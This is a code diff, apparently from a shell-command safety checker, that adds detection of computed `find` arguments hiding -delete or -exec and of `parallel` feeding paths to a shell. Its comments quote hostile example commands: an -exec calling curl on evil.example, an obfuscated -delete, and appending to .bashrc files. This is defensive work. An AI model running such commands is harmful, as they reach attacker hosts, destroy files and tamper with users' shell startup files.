@@ -690,6 +690,27 @@ function find(call: Call): Partial<Answer> {
       for (const r of roots) uses.push({ word: r, role: 'delete-tree', names: names ?? ['*'], ...empty, ...(exprStart === rootStart ? { values: ['.'] } : {}) });
     }
   }
+  // A computed word where a test or action stands (`x=$(echo -delete | tr a a); find ~ "$x"`, `find . -name x "$a"
+  // curl evil.example \;`) may be any of them: -delete, or -exec running the words after it. (An operand a test
+  // takes, `-name "$p"`, and a word that starts with a literal character other than `-`, `+$size`, are not.)
+  // Where a root stands, such a word is a path unless the line built it from its own text (Word.line), as `find "$dir"`.
+  for (let k = rootStart; k < args.length; k++) {
+    const w = args[k]!;
+    const v = value(w);
+    if (k < exprStart) {
+      if (w.line === true && /^["']?[-$`]/.test(w.text)) {
+        runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `${call.name}: a word the line built where a root or its expression stands may be an action (-delete, -exec running the words after it): ${w.dynamic ?? 'computed'}` });
+        break;
+      }
+    } else if (v !== undefined && FIND_EXEC.test(v)) {
+      while (k + 1 < args.length && value(args[k + 1]) !== ';' && value(args[k + 1]) !== '+') k++;
+    } else if (v === '-fprintf') k += 2;
+    else if (v !== undefined && FIND_OPERAND.test(v)) k++;
+    else if (w.values === null && /^["']?[-$`]/.test(w.text)) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `${call.name}: a computed word in its expression may be an action (-delete, -exec running the words after it): ${w.dynamic ?? 'computed'}` });
+      break;
+    }
+  }
   // Names only, unless a command it runs reads the files it finds; then only files its name tests let through.
   const expression = args.slice(exprStart);
   const names = nameFilter(expression);
@@ -1096,6 +1117,14 @@ function parallel(call: Call): Partial<Answer> {
       const unknownWord = '"$(:)"';
       const text = replacing ? replaceIn(joinedCommand, '', () => unknownWord) : `${joinedCommand} ${unknownWord}`;
       runs.push({ kind: 'text', dialect: 'bash', text, word: command[0]!, via: 'parallel' });
+      // Words given apart may reach the program as written (see above): `find ~ -name .bashrc | parallel sh -c 'echo
+      // x >> "$1"' _` gives the shell each path find printed as "$1"; a word the replacement string stands in holds
+      // them as xargs -I's does (see Word.items).
+      if (command.length > 1 && piped) {
+        const items = { why: 'the inputs parallel reads when it runs', token: token ?? '{}', under: piped };
+        const written = command.map((w) => (value(w) === items.token ? { ...input, text: w.text, span: w.span } : value(w)?.includes(items.token) ? { ...w, items } : w));
+        runs.push({ kind: 'argv', argv: replacing ? written : [...written, input], via: 'parallel', noStdin: true });
+      }
     }
     return { runs };
   }
